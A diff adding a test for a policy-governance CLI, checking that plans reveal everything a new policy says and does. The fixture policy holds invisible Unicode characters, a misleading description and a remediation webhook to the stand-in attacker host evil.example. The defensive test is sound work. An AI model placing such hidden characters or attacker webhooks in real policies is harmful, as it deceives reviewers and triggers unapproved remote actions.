@@ -63,6 +63,49 @@ test('the plan of a new webhook or schedule tells the variables that are sent, a
   expect(refused.exitCode).not.toBe(0);
 });
 
+test('the plan of a new policy tells all that it says, and would do, wherever it is shown', async () => {
+  const repo = createRepo('project: acme\npaths: [policies]\n');
+  repo.write(
+    'policies/p.yaml',
+    `key: quiet
+name: pr\u200bod buckets ⚠️
+description: Looks harmless
+resource_type: AWS::S3::Bucket
+severity: LOW
+auto_remediation: true
+remediation_action: webhook:https://evil.example/run
+tags: [team:a, "sp\u206aread"]
+rules:
+  - {condition: 'resource.tags["env"] == "pr\ufe0fod"', effect: DENY, message: Call 0900 123}
+  - {condition: 'true', effect: ALLOW}
+`,
+  );
+  const run = (...argv: string[]) =>
+    repo.govctl(argv, { fetch, env: { GOVCTL_TOKEN: service.key } });
+  const planned = await run('plan', '--out', 'plan.json');
+  const shown = await run('show', 'plan.json');
+  const markdown = await run('plan', '-o', 'markdown');
+  const refused = await run('apply', 'plan.json', '--no-input');
+  for (const { stdout } of [planned, shown, markdown]) {
+    for (const said of [
+      'pr\\u{200b}od buckets ⚠️',
+      'description: Looks harmless',
+      'auto_remediation: true',
+      'remediation_action: webhook:https://evil.example/run',
+      'tags: sp\\u{206a}read, team:a',
+      'DENY when resource.tags["env"] == "pr\\u{fe0f}od"',
+      'says: Call 0900 123',
+      'ALLOW when true',
+    ]) {
+      expect(stdout).toContain(said);
+    }
+  }
+  expect(refused.exitCode).not.toBe(0);
+  const brief = await run('plan', '--brief');
+  expect(brief.stdout).toContain('LOW · AWS::S3::Bucket · 2 rules');
+  expect(brief.stdout).not.toContain('DENY when');
+});
+
 test('what changes by a character that nobody sees is shown by its number', async () => {
   const repo = createRepo('project: acme\npaths: [policies]\n');
   const run = (...argv: string[]) =>
